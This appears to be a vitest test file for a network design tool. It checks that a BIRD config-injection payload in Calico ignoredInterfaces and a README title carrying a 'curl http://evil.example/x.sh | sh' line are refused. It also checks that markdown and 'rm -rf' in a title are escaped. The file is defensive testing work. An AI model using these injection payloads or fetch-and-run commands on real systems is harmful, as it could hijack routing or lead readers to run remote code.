/**
 * Issue 15, findings 1 and 4, as a user meets them: `render-calico` on a cluster dump whose
 * ignoredInterfaces would add a blackhole default route to bird.cfg, and `export` of a design
 * whose title would add a heading and a command to the README. Both are refused with exit 2,
 * the field's path and line, and write nothing.
 */
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runCli as run } from './test-run';

const SCENARIO = new URL('../scenarios/two-racks-ebgp.liveroute.yaml', import.meta.url).pathname;

const PAYLOAD =
  'eth9", "*";\n}\nprotocol static lrinj_injected { route 0.0.0.0/0 blackhole; }\ntemplate direct lrinj_t {\n  interface "x';

describe('config injection through render-calico (finding 1)', () => {
  it("refuses the issue's ignoredInterfaces with exit 2 and the field's path, and prints no config", async () => {
    const dir = mkdtempSync(join(tmpdir(), 'lr-inject-'));
    const file = join(dir, 'dump.yaml');
    writeFileSync(
      file,
      [
        'apiVersion: projectcalico.org/v3\nkind: Node\nmetadata: { name: n1 }\nspec: { bgp: { ipv4Address: 10.0.0.1/24 } }',
        `apiVersion: projectcalico.org/v3\nkind: BGPConfiguration\nmetadata: { name: default }\nspec:\n  ignoredInterfaces:\n    - ${JSON.stringify(PAYLOAD)}`,
      ].join('\n---\n'),
    );
    const r = await run('render-calico', file, '--node', 'n1', '--out', join(dir, 'out'));
    expect(r.code).toBe(2);
    expect(r.out).toBe('');
    expect(r.err).toBe(
      `${file}: not valid Calico resources\n  ${file}: document 2, spec.ignoredInterfaces[0] (line 11): ${JSON.stringify(PAYLOAD)} is not an interface name or pattern: 1 to 15 of letters, digits, '_', '.', '-' and '*' (and not "*" alone)\n`,
    );
    expect(existsSync(join(dir, 'out'))).toBe(false);
  });
});

describe('text injection into the exported README (finding 4)', () => {
  it("refuses the issue's title with exit 2, naming the character, and writes nothing", async () => {
    const dir = mkdtempSync(join(tmpdir(), 'lr-title-'));
    const file = join(dir, 'd.yaml');
    const title = 'Two racks\n\n## Apply with: curl http://evil.example/x.sh | sh\n';
    writeFileSync(
      file,
      readFileSync(SCENARIO, 'utf8').replace(/^ {2}title: .*$/m, `  title: ${JSON.stringify(title)}`),
    );
    const r = await run('export', join(dir, 'd.yaml'), '--out', join(dir, 'out'));
    expect(r.code).toBe(2);
    expect(r.err).toContain(`${file}: not a valid liveroute/v1 design`);
    expect(r.err).toMatch(
      /metadata\.title \(line 5\): title is a single line of text: U\+000A \(line feed\) at character 10 is not allowed/,
    );
    expect(existsSync(join(dir, 'out'))).toBe(false);
  });

  it('writes a title with markdown in it as text, on its one heading line', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'lr-title-ok-'));
    const file = join(dir, 'd.yaml');
    writeFileSync(
      file,
      readFileSync(SCENARIO, 'utf8').replace(
        /^ {2}title: .*$/m,
        '  title: "Racks <img src=x> [click](http://evil.example) `rm -rf` # é"',
      ),
    );
    const r = await run('export', file, '--out', join(dir, 'out'));
    expect(r.code).toBe(0);
    const readme = readFileSync(join(dir, 'out', 'README.md'), 'utf8');
    expect(readme.split('\n')[0]).toBe('# Racks \\<img src=x\\> \\[click\\](http://evil.example) \\`rm -rf\\` \\# é');
    expect(readme.split('\n')[1]).toBe('');
  });
});
